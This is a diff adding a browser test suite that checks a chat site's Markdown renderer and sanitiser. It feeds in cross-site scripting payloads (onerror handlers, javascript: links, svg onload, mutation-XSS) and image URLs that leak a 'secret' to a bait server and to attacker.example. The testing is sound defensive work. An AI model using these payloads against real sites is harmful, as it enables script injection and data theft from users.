@@ -1,0 +1,194 @@
+"""Model output and user text are untrusted: nothing in them runs or fetches, on any path.
+
+A "bait" HTTP server on another loopback port stands for an attacker's site: the payloads
+point at it, and it must never be asked for anything. Every page is also watched for dialogs
+(the payloads call alert), console errors (CSP violations) and requests leaving the site.
+"""
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.pages import (
+    gated_stream,
+    last_reply,
+    open_new_chat,
+    reply_body,
+    send_message,
+    wait_until_final,
+)
+from tests.stub import Script, json_error, openai_chunk, openai_usage, sse
+
+pytestmark = pytest.mark.browser
+
+USER_PAYLOAD = "<img src=x onerror=alert('user')> hi"
+BROKEN_TEXT = "<img src=x onerror=alert('broken')> **bold**"
+FORBIDDEN_ELEMENTS = "script, svg, math, iframe, object, embed, video, audio, link, style, form"
+
+
+class BaitServer:
+    """An HTTP server on another port that records every request it gets."""
+
+    def __init__(self) -> None:
+        self.paths: list[str] = []
+        paths = self.paths
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                paths.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/gif")
+                self.end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+
+@pytest.fixture
+def bait() -> Iterator[BaitServer]:
+    server = BaitServer()
+    yield server
+    server.httpd.shutdown()
+
+
+def payload_after_the_gate(bait: str) -> str:
+    return (
+        "or=\"alert('img')\"> and more.\n\n"
+        "<script>alert('script')</script>\n\n"
+        "[a markdown link](javascript:alert('markdown-link'))\n\n"
+        "[a reference link][evil]\n\n[evil]: javascript:alert('reference-link')\n\n"
+        '<a id="js-link" href="javascript:alert(\'html-link\')">an html link</a>\n\n'
+        '<svg onload="alert(\'svg\')"><circle r="5"/></svg>\n\n'
+        f"![the secret]({bait}/markdown-image?q=secret)\n\n"
+        f'<img src="{bait}/html-image?q=secret" alt="html image">\n\n'
+        f"![remote](https://attacker.example/pixel.png?q=secret)\n\n"
+        "![same site](/static/chatsite/favicon.svg)\n\n"
+        f'<video src="{bait}/video" poster="{bait}/poster"></video>\n\n'
+        f'<iframe src="{bait}/frame"></iframe><object data="{bait}/object"></object>\n\n'
+        f'<link rel="stylesheet" href="{bait}/style.css">\n\n'
+        f'<style>@import "{bait}/import";</style>\n\n'
+        f'<div style="background: url({bait}/background)">styled</div>\n\n'
+        "<details open ontoggle=\"alert('toggle')\"><summary>s</summary>x</details>\n\n"
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>\n\n"
+    )
+
+
+def assert_nothing_dangerous_in(page: object) -> None:
+    messages = page.locator("#messages")
+    expect(messages.locator(FORBIDDEN_ELEMENTS)).to_have_count(0)
+    found = messages.evaluate(
+        """root => [...root.querySelectorAll('*')].flatMap(e => [...e.attributes]
+            .filter(a => a.name.startsWith('on') || a.name === 'style'
+                || /^\\s*javascript:/i.test(a.value) || (e.tagName === 'IMG' && a.name === 'src'))
+            .map(a => `${e.tagName} ${a.name}=${a.value}`))"""
+    )
+    assert found == [], "dangerous attributes survived sanitising"
+
+
+def test_model_output_runs_no_script_and_requests_nothing(browsing, stub, alice, bait, new_gate):
+    mid_tag = new_gate()
+    reasoning = openai_chunk(reasoning="<img src=x onerror=alert('reasoning')> thinking")
+    stream = gated_stream(["Sure! <img src=x onerr", payload_after_the_gate(bait.url)],
+                          [mid_tag, None])  # fmt: skip
+    stream.steps.insert(1, reasoning)
+    stub.queue(stream)
+    page = browsing.logged_in(alice)
+    open_new_chat(page)
+    send_message(page, USER_PAYLOAD)
+
+    # Mid-stream, half a tag: shown as text or dropped, never run.
+    expect(reply_body(page)).to_contain_text("Sure!")
+    assert_nothing_dangerous_in(page)
+    mid_tag.open()
+    wait_until_final(page)
+    assert_nothing_dangerous_in(page)
+
+    body = reply_body(page)
+    expect(body).to_contain_text("and more.")
+    expect(body).to_contain_text("<script>alert('script')</script>")  # raw HTML is shown as text
+    expect(body.get_by_text("[image not loaded: the secret]")).to_be_visible()
+    expect(body.get_by_text("[image not loaded: same site]")).to_be_visible()
+    expect(body.locator("img")).to_have_count(0)
+    for link in ("a markdown link", "a reference link"):
+        body.get_by_text(link).click()  # javascript: hrefs were dropped: nothing happens
+    expect(last_reply(page).locator(".reasoning")).to_contain_text("<img src=x onerror=")
+    expect(page.locator(".message.user .body")).to_have_text(USER_PAYLOAD)
+    expect(page.locator("#chat-title")).to_have_text(USER_PAYLOAD)
+    page.reload()  # the server-rendered title and sidebar, and the stored reply
+    expect(page.locator("#conversation-list li.current")).to_have_text(USER_PAYLOAD)
+    expect(page).to_have_title(f"{USER_PAYLOAD} · chatsite")
+    wait_until_final(page)
+    assert_nothing_dangerous_in(page)
+
+    watch = browsing.watch_of(page)
+    assert watch.dialogs == [], "a payload ran script"
+    assert watch.outside_requests == [], "the page fetched something outside the site"
+    assert bait.paths == [], "the attacker's server was asked for something"
+
+
+def test_staff_see_model_output_in_admin_as_text(browsing, stub, alice, bob, bait):
+    stub.queue(gated_stream([f"<img src=x onerror=alert('admin')><img src={bait.url}/a>"], [None]))
+    page = browsing.logged_in(alice)
+    open_new_chat(page)
+    send_message(page, "<script>alert('admin-user')</script>")
+    wait_until_final(page)
+    conversation_id = page.url.rstrip("/").rsplit("/", 1)[-1]
+
+    staff = browsing.logged_in(bob)
+    staff.goto(f"/admin/conversations/conversation/{conversation_id}/change/")
+    expect(staff.locator("#content")).to_contain_text("<img src=x onerror=alert('admin')>")
+    expect(staff.locator("#content")).to_contain_text("<script>alert('admin-user')</script>")
+    staff.goto("/admin/conversations/message/")
+    expect(staff.locator("#result_list")).to_be_visible()
+    assert browsing.watch_of(staff).dialogs == []
+    assert bait.paths == []
+
+
+def test_provider_error_text_is_shown_as_text(browsing, stub, alice):
+    stub.queue(json_error(400, "<img src=x onerror=alert('error')> bad request"))
+    page = browsing.logged_in(alice)
+    open_new_chat(page)
+    send_message(page, "Hi")
+    reply = wait_until_final(page, "failed")
+    expect(reply.locator(".reply-notice")).to_contain_text("<img src=x onerror=alert('error')>")
+    assert_nothing_dangerous_in(page)
+
+
+def test_a_renderer_failure_leaves_plain_text(browsing, stub, alice):
+    stub.queue(Script(steps=[openai_chunk("**fine**"), openai_chunk(finish_reason="stop"),
+                             openai_usage(1, 1), sse("[DONE]")]))  # fmt: skip
+    page = browsing.logged_in(alice)
+    open_new_chat(page)
+    send_message(page, "Hi")
+    wait_until_final(page)
+    expect(reply_body(page).locator("strong")).to_have_text("fine")
+
+    # Break the Markdown parser, then the sanitiser: each time the text stays text.
+    for broken in ("chatsiteRender.markdown.parse", "DOMPurify.sanitize"):
+        rendered = page.evaluate(
+            """([broken, text]) => {
+                const path = broken.split(".");
+                const method = path.pop();
+                const owner = path.reduce((object, name) => object[name], window);
+                const original = owner[method];
+                owner[method] = () => { throw new Error("renderer failed"); };
+                const target = document.createElement("div");
+                try { window.chatsiteRender.renderMarkdown(target, text); }
+                finally { owner[method] = original; }
+                return {
+                    elements: [...target.querySelectorAll("*")].map(e => e.tagName),
+                    text: target.textContent,
+                };
+            }""",
+            [broken, BROKEN_TEXT],
+        )
+        # A parser failure shows the escaped text in <pre>; a sanitiser failure, plain text.
+        expected = ["PRE"] if broken.endswith("markdown.parse") else []
+        assert rendered == {"elements": expected, "text": BROKEN_TEXT}, broken
